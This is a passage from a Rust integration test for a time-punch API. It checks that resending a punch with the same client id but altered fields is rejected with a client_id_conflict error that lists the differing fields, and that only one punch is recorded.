
        let differing = |change: &dyn Fn(&mut Value)| {
            let mut resend = first.clone();
            change(&mut resend);
            resend
        };
        let cases: Vec<(Value, Vec<&str>)> = vec![
            (differing(&|p| p["photo_rotation"] = json!(180)), vec!["photo_rotation"]),
            (differing(&|p| p["settings_version"] = json!(2)), vec!["settings_version"]),
            (
                differing(&|p| {
                    p["kind"] = json!("out");
                    p["device_time"] = json!(hours_ago(1));
                }),
                vec!["kind", "device_time"],
            ),
        ];
        for (resend, differs) in cases {
            let response = app.punch(&device, &resend).await;
            assert_eq!(response.status(), StatusCode::CONFLICT, "{backend:?}: {resend}");
            let body: Value = response.json().await.unwrap();
            assert_eq!(body["error"]["code"], "client_id_conflict");
            assert_eq!(body["error"]["details"]["differs"], json!(differs), "{backend:?}: {body}");
            for field in differs {
                assert!(body["error"]["message"].as_str().unwrap().contains(field), "{backend:?}: {body}");
            }
        }
        assert_eq!(app.punch_count(&admin).await, 1, "{backend:?}");
    }
}
